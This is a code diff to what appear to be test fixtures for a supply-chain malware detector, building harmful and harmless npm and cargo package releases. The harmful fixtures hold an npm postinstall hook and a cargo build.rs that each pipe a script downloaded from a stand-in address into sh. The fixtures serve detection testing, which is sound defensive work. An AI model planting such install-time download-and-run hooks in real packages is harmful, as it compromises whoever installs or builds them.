@@ -10,12 +10,15 @@ NOWHERE = "http://198.51.100.7/stage2.sh"
 WORST = {"npm": "hook-command", "pypi": "runs-downloaded", "cargo": "runs-downloaded"}
 """The detector of the worst that is found in a harmful one."""
 
+HARMFUL = {"scripts": {"postinstall": f"curl -s {NOWHERE} | sh"}}
+HARMLESS = {"scripts": {"postinstall": "node -e 0"}}
+"""Of a package.json."""
+
 
 def harmful(ecosystem: str, name: str, version: str) -> bytes:
     """A release that would run what it downloads as it is installed, built or started."""
     if ecosystem == "npm":
-        scripts = {"scripts": {"postinstall": f"curl -s {NOWHERE} | sh"}}
-        return packages.npm_tarball(name, version, manifest=scripts)
+        return packages.npm_tarball(name, version, manifest=HARMFUL)
     if ecosystem == "cargo":
         build = f'fn main() {{ std::process::Command::new("sh").arg("-c").arg("curl -s {NOWHERE} | sh").status(); }}\n'
         return crates.crate(name, version, files={"build.rs": build})
@@ -26,7 +29,7 @@ def harmful(ecosystem: str, name: str, version: str) -> bytes:
 def harmless(ecosystem: str, name: str, version: str) -> bytes:
     """The same without harm: it prints a word in the same places."""
     if ecosystem == "npm":
-        return packages.npm_tarball(name, version, manifest={"scripts": {"postinstall": "node -e 0"}})
+        return packages.npm_tarball(name, version, manifest=HARMLESS)
     if ecosystem == "cargo":
         build = 'fn main() { println!("cargo:rerun-if-changed=x"); }\n'
         return crates.crate(name, version, files={"build.rs": build})
